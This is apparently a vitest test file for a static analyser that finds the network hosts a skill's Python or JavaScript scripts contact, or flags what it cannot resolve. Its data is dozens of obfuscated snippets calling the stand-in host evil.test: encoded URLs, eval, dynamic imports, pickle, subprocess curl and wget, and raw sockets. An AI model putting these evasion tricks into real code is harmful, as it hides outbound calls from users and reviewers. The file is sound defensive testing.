import { describe, expect, test } from 'vitest';
import { compiled, fence, head } from './judge.ts';

/** Hosts that the plan grants, and what it says is not in the text. */
function judged(file: string, text: string, run: string): string {
  const [operation] = compiled({ 'SKILL.md': head + fence(run), [file]: `${text}\n` }).operations;
  const { effects = [], sandbox } = operation?.plan ?? {};
  const hosts = effects.flatMap((effect) => (effect.kind === 'network' ? [`${effect.method} ${effect.origin}`] : []));
  const open = (sandbox?.undecided ?? []).map(({ what }) => what);
  return `${[...new Set(hosts)].join(' ')} | ${[...new Set(open)].join(' ')}`;
}

describe('Python: a hidden host is found, or said not to be known; it is never simply missing', () => {
  test.each([
    [`import requests\ngetattr(requests, "g" + "et")("https://evil.test")`, 'GET https://evil.test | '],
    [`import requests, sys\ngetattr(requests, sys.stdin.read())("https://evil.test")`, ' | code'],
    [`__import__("req" + "uests").get("https://evil.test")`, 'GET https://evil.test | '],
    [
      `import importlib\nimportlib.import_module("urllib." + "request").urlopen("https://evil.test")`,
      'GET https://evil.test | ',
    ],
    [`m = __import__(input())\nm.get("https://evil.test")`, ' | code'],
    [`import requests\nrequests.get("tset.live//:sptth"[::-1])`, 'GET https://evil.test | '],
    [`import requests\nrequests.get("".join(["https://", "ev", "il.test"]))`, 'GET https://evil.test | '],
    [
      `import requests\nrequests.get("".join(chr(c) for c in [104,116,116,112,115,58,47,47,101,118,105,108,46,116,101,115,116]))`,
      'GET https://evil.test | ',
    ],
    [
      `import requests, base64\nrequests.get(base64.b64decode("aHR0cHM6Ly9ldmlsLnRlc3Q=").decode())`,
      'GET https://evil.test | ',
    ],
    [`import requests, codecs\nrequests.get(codecs.decode("uggcf://rivy.grfg", "rot13"))`, 'GET https://evil.test | '],
    [
      `import requests\nrequests.get(bytes.fromhex("68747470733a2f2f6576696c2e74657374").decode())`,
      'GET https://evil.test | ',
    ],
    [`import requests\nrequests.get("".join(chr(b ^ 1) for b in b"iuuqr;..dwhm/udru"))`, ' | host'],
    [`import requests\nrequests.get("https://XX.test".replace("XX", "evil"))`, 'GET https://evil.test | '],
    [`import requests\nrequests.get("https://%s.test" % "evil")`, 'GET https://evil.test | '],
    [`import requests\nrequests.get("{}{}".format("https://evil", ".test"))`, 'GET https://evil.test | '],
    [`eval("__import__('requests').get('https://evil.test')")`, ' | code'],
    [`exec(open("x.txt").read())`, ' | code'],
    [`import requests\nglobals()["req" + "uests"].get("https://evil.test")`, ' | code'],
    [`__builtins__.__import__("requests").get("https://evil.test")`, ' | code'],
    [`().__class__.__bases__[0].__subclasses__()[100]("https://evil.test")`, ' | code'],
    [`import sys, requests\nsys.modules["requests"].get("https://evil.test")`, ' | code'],
    [`from requests import get as print_\nprint_("https://evil.test")`, 'GET https://evil.test | '],
    [`from functools import partial\nimport requests\npartial(requests.get, "https://evil.test")()`, ' | host'],
    [`import requests\nlist(map(requests.get, ["https://evil.test"]))`, 'GET https://evil.test | '],
    [`import requests\n[requests.get, print][0]("https://evil.test")`, 'GET https://evil.test | '],
    [`import requests\n{"a": requests.get}[input()]("https://evil.test")`, 'GET https://evil.test | '],
    [`import requests\n(lambda f: f("https://evil.test"))(requests.get)`, 'GET https://evil.test | '],
    [`import requests\ns = requests.Session()\nf = s.get\nf("https://evil.test")`, 'GET https://evil.test | '],
    [`import requests\nclass S(requests.Session): pass\nS().get("https://evil.test")`, 'GET https://evil.test | '],
    [
      `import requests\ndef d(f):\n    requests.get("https://evil.test")\n    return f\n@d\ndef x(): pass`,
      'GET https://evil.test | ',
    ],
    [`import requests\ndef f(u="https://evil.test"): requests.get(u)\nf()`, 'GET https://evil.test | '],
    [
      `import requests\nclass A:\n    @property\n    def x(self): return requests.get("https://evil.test")\nA().x`,
      'GET https://evil.test | ',
    ],
    [
      `import requests\nclass A:\n    def __str__(self): return requests.get("https://evil.test").text\nprint(A())`,
      'GET https://evil.test | ',
    ],
    [
      `import threading, requests\nthreading.Thread(target=requests.get, args=("https://evil.test",)).start()`,
      'GET https://evil.test | ',
    ],
    [`import atexit, requests\natexit.register(requests.get, "https://evil.test")`, ' | host'],
    [
      `import signal, requests\nsignal.signal(14, lambda *a: requests.get("https://evil.test"))`,
      'GET https://evil.test | ',
    ],
    [
      `import sys, requests\nsys.excepthook = lambda *a: requests.get("https://evil.test")`,
      'GET https://evil.test | code',
    ],
    [
      `import requests, json\njson.dumps = lambda x: requests.get("https://evil.test")\njson.dumps(1)`,
      'GET https://evil.test | code',
    ],
    [`import requests, json\nsetattr(json, "dumps", requests.get)\njson.dumps("https://evil.test")`, ' | code'],
    [`ｉｍｐｏｒｔ_ = 1\nｅｖａｌ("1")`, ' | code'],
    [`import pickle\npickle.loads(open("x", "rb").read())`, ' | code'],
    [`import ctypes\nctypes.CDLL(None).system(b"curl https://evil.test")`, ' | code'],
    [`import socket\nsocket.create_connection(("evil.test", 443))`, ' | socket'],
    [`import asyncio\nasyncio.run(asyncio.open_connection("evil.test", 443))`, ' | socket'],
    [`import subprocess\nsubprocess.run(["curl", "https://evil.test"])`, 'GET https://evil.test | '],
    [`import os\nos.popen("wget -qO- https://evil.test")`, 'GET https://evil.test | '],
    [`import os\nos.system("curl https://" + input())`, ' | program'],
    [`import subprocess\nsubprocess.run([input(), "https://evil.test"])`, ' | program'],
    [`import pty\npty.spawn(["curl", "https://evil.test"])`, 'GET https://evil.test | '],
    [`import posix\nposix.system("curl https://evil.test")`, ' | code'],
    [
      `import requests\ndef a():\n    def b():\n        requests.get("https://evil.test")\n    return b\na()()`,
      'GET https://evil.test | ',
    ],
    [`import requests\ndef g():\n    yield requests.get("https://evil.test")\nnext(g())`, 'GET https://evil.test | '],
    [`import requests\n[requests.get(u) for u in ["https://evil.test"]]`, 'GET https://evil.test | '],
    [`import requests\nif (u := "https://evil.test"): requests.get(u)`, 'GET https://evil.test | '],
    [`import requests\nmatch 1:\n    case _:\n        requests.get("https://evil.test")`, 'GET https://evil.test | '],
    [
      `import requests\ntry:\n    1/0\nexcept ZeroDivisionError:\n    requests.get("https://evil.test")`,
      'GET https://evil.test | ',
    ],
    [`import requests\ntry:\n    pass\nfinally:\n    requests.get("https://evil.test")`, 'GET https://evil.test | '],
    [`import requests\nwith requests.get("https://evil.test") as r: pass`, 'GET https://evil.test | '],
    [
      `import httpx, asyncio\nasync def m():\n    async with httpx.AsyncClient() as c:\n        await c.get("https://evil.test")\nasyncio.run(m())`,
      'GET https://evil.test | ',
    ],
    [`import requests\nrequests.get("https://good.test@evil.test/")`, ' | host'],
    [`import requests, sys\nrequests.get("https://good.test" + sys.stdin.read())`, ' | host'],
    [`import requests, sys\nrequests.get(f"https://{sys.stdin.read()}.good.test/")`, ' | host'],
    [`import requests, os\nrequests.get(os.environ["EVIL_URL"])`, 'GET ${setting:EVIL_URL} | '],
    [`import requests\nu = "https://good.test"\nu = "https://evil.test"\nrequests.get(u)`, 'GET https://evil.test | '],
    [
      `import requests\nfor h in ("good", "evil"):\n    requests.get(f"https://{h}.test/")`,
      'GET https://evil.test GET https://good.test | ',
    ],
    [`x = 1 # comment\rimport requests; requests.get("https://evil.test")`, 'GET https://evil.test | '],
    [`# -*- coding: rot13 -*-\nprint(1)`, ' | source'],
    [`import operator, requests\noperator.attrgetter("get")(requests)("https://evil.test")`, ' | code'],
    [`import operator, requests\noperator.methodcaller("get", "https://evil.test")(requests)`, ' | code'],
    [`import requests\nvars(requests)["get"]("https://evil.test")`, ' | code'],
    [`import requests\nrequests.__dict__["get"]("https://evil.test")`, ' | code'],
    [
      `type("X", (), {"run": lambda s: __import__("os").system("curl https://evil.test")})().run()`,
      'GET https://evil.test | code',
    ],
    [`import functools, requests\nfunctools.reduce(getattr, ["get"], requests)("https://evil.test")`, ' | code'],
    [`from requests import *\nget("https://evil.test")`, ' | code'],
    [`import code\ncode.InteractiveInterpreter().runsource("import os")`, ' | code'],
    [`import timeit\ntimeit.timeit("import os; os.system('curl https://evil.test')")`, ' | code'],
    [`import urllib.request as u\nu.build_opener().open("https://evil.test")`, 'GET https://evil.test | '],
    [`import webbrowser\nwebbrowser.open("https://evil.test")`, ' | program'],
    [`import mystery\nmystery.go("https://evil.test")`, ' | module'],
    [`import pandas as pd\npd.read_csv("https://evil.test/x.csv")`, 'GET https://evil.test | '],
  ])('%j is %s', (text, expected) => {
    expect(judged('s.py', text, 'python3 s.py <word>')).toBe(expected);
  });
});

describe('JavaScript: a hidden host is found, or said not to be known; it is never simply missing', () => {
  test.each([
    [`globalThis["fe" + "tch"]("https://evil.test")`, 'GET https://evil.test | '],
    [`globalThis[process.argv[2]]("https://evil.test")`, ' | code'],
    [`require("ht" + "tps").get("https://evil.test")`, 'GET https://evil.test | '],
    [`require(process.argv[2])`, ' | code'],
    [`import("node:" + "https").then((m) => m.get("https://evil.test"))`, 'GET https://evil.test | '],
    [`[].constructor.constructor("return fetch")()("https://evil.test")`, ' | code'],
    [`new Function("fetch('https://evil.test')")()`, ' | code'],
    [`eval("fetch('https://evil.test')")`, ' | code'],
    [`(0, eval)("fetch('https://evil.test')")`, ' | code'],
    [`setTimeout("fetch('https://evil.test')", 1)`, ' | code'],
    [`require("vm").runInNewContext("1")`, ' | code'],
    [`fetch(atob("aHR0cHM6Ly9ldmlsLnRlc3Q="))`, 'GET https://evil.test | '],
    [
      `fetch(String.fromCharCode(104,116,116,112,115,58,47,47,101,118,105,108,46,116,101,115,116))`,
      'GET https://evil.test | ',
    ],
    [`fetch("tset.live//:sptth".split("").reverse().join(""))`, 'GET https://evil.test | '],
    ["const h = 'evil'; fetch(`https://${h}.test`)", 'GET https://evil.test | '],
    [`const { get: g } = require("https"); g("https://evil.test")`, 'GET https://evil.test | '],
    [`const f = fetch.bind(null, "https://evil.test"); f()`, ' | code'],
    [`fetch.call(null, "https://evil.test")`, 'GET https://evil.test | '],
    [`Reflect.apply(fetch, null, ["https://evil.test"])`, ' | host'],
    [`new Proxy({}, { get: () => fetch("https://evil.test") }).x`, ' | code'],
    [`const o = { get x() { return fetch("https://evil.test"); } }; o.x`, 'GET https://evil.test | '],
    [`Promise.resolve("https://evil.test").then(fetch)`, 'GET https://evil.test | '],
    [`["https://evil.test"].map(fetch)`, '* https://evil.test | '],
    [`process.on("exit", () => fetch("https://evil.test"))`, 'GET https://evil.test | '],
    [`new Promise((r) => r(fetch("https://evil.test")))`, 'GET https://evil.test | '],
    [`class A { static { fetch("https://evil.test"); } }`, 'GET https://evil.test | '],
    [`class A { x = fetch("https://evil.test") } new A()`, 'GET https://evil.test | '],
    ["const o = { toString() { fetch('https://evil.test'); return ''; } }; `${o}`", 'GET https://evil.test | '],
    ["const t = (s) => fetch('https://evil.test'); t`x`", 'GET https://evil.test | '],
    [`(console.log(1), fetch)("https://evil.test")`, 'GET https://evil.test | '],
    [`globalThis?.fetch?.("https://evil.test")`, 'GET https://evil.test | '],
    [`const k = process.argv[2]; process[k]("x")`, ' | code'],
    [`process.binding("spawn_sync")`, ' | code'],
    [`process.mainModule.require("child_process").execSync("curl https://evil.test")`, ' | code'],
    [`require("child_process").execSync("curl https://evil.test")`, 'GET https://evil.test | '],
    ["require('child_process').exec(`curl ${process.argv[2]}`)", ' | program'],
    [
      `const { spawn } = require("node:child_process"); spawn("curl", ["https://evil.test"])`,
      'GET https://evil.test | ',
    ],
    [`require("net").connect(443, "evil.test")`, ' | socket'],
    [`new WebSocket("wss://evil.test")`, ' | socket'],
    [`new Worker("data:text/javascript,fetch('https://evil.test')")`, ' | code'],
    [`WebAssembly.instantiate(new Uint8Array(8))`, ' | code'],
    [`\\u0065val("1")`, ' | code'],
    [`<!-- hidden\nfetch("https://evil.test")`, 'GET https://evil.test | '],
    [`(async () => { for await (const u of ["https://evil.test"]) await fetch(u); })()`, 'GET https://evil.test | '],
    [`function* g() { yield fetch("https://evil.test"); } [...g()]`, 'GET https://evil.test | '],
    [`with ({ a: fetch }) { a("https://evil.test") }`, ' | code'],
    [`fetch("https://good.test@evil.test/")`, ' | host'],
    [`fetch("https://good.test" + process.argv[2])`, 'GET https://good.test${setting:word} | '],
    [`fetch(new URL(process.argv[2], "https://good.test"))`, ' | host'],
    [
      `require("axios").get(process.argv[2], { baseURL: "https://good.test" })`,
      'GET https://good.test${setting:word} | ',
    ],
    [`require("mystery")("https://evil.test")`, ' | module'],
    [`import("https://evil.test/x.mjs")`, ' | module'],
    [
      `const o = { [Symbol.iterator]: function* () { fetch("https://evil.test"); } }; [...o]`,
      'GET https://evil.test | ',
    ],
    [`Object.prototype.x = () => fetch("https://evil.test"); ({}).x()`, 'GET https://evil.test | '],
    [`JSON.stringify = (x) => fetch("https://evil.test"); JSON.stringify(1)`, 'GET https://evil.test | code'],
    [`fetch(...["https://evil.test"])`, 'GET https://evil.test | '],
    [`function a() { return () => fetch("https://evil.test"); } a()()`, 'GET https://evil.test | '],
  ])('%j is %s', (text, expected) => {
    expect(judged('s.js', text, 'node s.js <word>')).toBe(expected);
  });
});

describe('the neighbour without tricks is wholly decided', () => {
  test.each([
    ['s.py', 'print(sum(range(10)))', 'python3 s.py'],
    ['s.py', 'import json, sys\nprint(json.dumps(sorted(sys.stdin)))', 'python3 s.py'],
    ['s.js', 'console.log([1, 2].map((x) => x * 2).join())', 'node s.js'],
  ])('%s %j', (file, text, run) => {
    expect(judged(file, text, run)).toBe(' | ');
  });
});
